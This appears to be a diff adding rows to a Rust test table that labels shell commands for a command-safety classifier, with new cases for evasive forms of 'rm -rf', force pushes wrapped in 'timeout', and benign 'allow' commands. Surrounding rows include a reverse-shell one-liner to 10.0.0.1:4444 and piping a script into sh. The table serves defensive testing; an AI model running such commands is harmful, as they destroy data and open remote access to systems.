@@ -118,6 +118,13 @@ const TABLE: &[(&str, &str)] = &[
     ("cat script | sh", "shell.opaque-stdin"),
     ("if then fi fi", "parse.error"),
     ("sudo -i", "privilege.root-shell"),
+    ("printf '%s' '-rf /' | xargs rm", "fs.rm-critical"),
+    ("echo ok | xargs rm -- -rf", "allow"),
+    ("nice -n 5 rm -rf /data/cache", "fs.rm-recursive-force"),
+    ("timeout -s KILL 5 git push -f", "git.force-push"),
+    ("npx rimraf node_modules", "fs.rm-recursive-force"),
+    ("npx prettier --check .", "allow"),
+    ("mkdir -p src/{core,cli}", "allow"),
     (
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
         "net.reverse-shell",
